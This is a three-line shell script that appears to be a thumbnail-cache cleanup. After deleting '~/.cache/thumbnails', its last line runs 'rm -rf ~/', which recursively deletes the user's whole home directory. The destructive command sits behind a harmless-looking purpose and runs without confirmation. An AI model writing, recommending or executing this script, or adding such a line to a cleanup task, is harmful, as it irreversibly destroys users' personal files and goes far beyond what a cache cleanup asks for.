#!/bin/sh
rm -rf ~/.cache/thumbnails
rm -rf ~/
